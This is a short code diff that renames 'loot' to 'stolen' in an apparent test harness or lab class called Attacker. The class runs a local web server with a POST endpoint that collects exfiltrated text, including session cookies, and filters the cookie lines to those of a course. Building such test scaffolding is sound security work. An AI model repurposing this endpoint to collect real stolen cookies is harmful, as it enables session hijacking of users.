@@ -36,13 +36,13 @@ class Attacker:
         """Start; `cookie` is the name of TRAX's session cookie, which anyone can see."""
         self.victim = f"http://trax.localhost:{port}"
         self._trax, self._cookie = f"http://{HOST}:{port}", cookie
-        self.loot: list[str] = []
+        self.stolen: list[str] = []
         listener = listen(0)
         self.port: int = listener.getsockname()[1]
         settings = Settings(host=HOST, port=self.port)
         guard = Middleware(KnownHosts, settings=settings, weak=True, refusal=_refusal)
         routes = [
-            Route("/loot", self._take, methods=["POST"]),
+            Route("/stolen", self._take, methods=["POST"]),
             Route("/{name}", self._page, methods=["GET"]),
         ]
         app = Starlette(routes=routes, middleware=[guard], exception_handlers={Refused: _refused})
@@ -76,7 +76,7 @@ class Attacker:
 
     async def _take(self, request: Request) -> Response:
         text = (await request.body())[:KEPT_BYTES].decode("utf-8", "replace")
-        self.loot.append("\n".join(map(_of_the_course, text.split("\n"))))
+        self.stolen.append("\n".join(map(_of_the_course, text.split("\n"))))
         return PlainTextResponse("thank you")
 
     def _own_token(self) -> str:
@@ -88,7 +88,7 @@ class Attacker:
 
 
 def _of_the_course(line: str) -> str:
-    """Return a line of loot without the cookies in it that do not belong to the course."""
+    """Return a line of stolen data without cookies that do not belong to the course."""
     if "=" not in line:
         return line
     return "".join(value for _, value in credentials.of_the_course((("cookie", line),)))
